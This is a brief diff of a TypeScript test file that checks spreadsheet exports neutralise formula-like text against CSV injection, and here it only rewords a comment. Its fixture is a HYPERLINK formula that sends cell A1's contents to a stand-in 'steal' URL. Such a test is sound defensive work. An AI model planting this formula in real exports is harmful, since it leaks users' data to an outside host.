@@ -12,7 +12,7 @@ import { createTestApp, type TestApp } from '../../test/test-app';
 const hyperlink = '=HYPERLINK("http://contoh.test/curi?d="&A1,"Klik di sini")';
 
 /**
- * Issue 17 (OWASP CSV injection): a text cell that a spreadsheet would read as a formula once the
+ * OWASP CSV injection: a text cell that a spreadsheet would read as a formula once the
  * file is saved as CSV starts with an apostrophe; numbers and dates keep their type.
  */
 describe('exports neutralise formula-like text', () => {
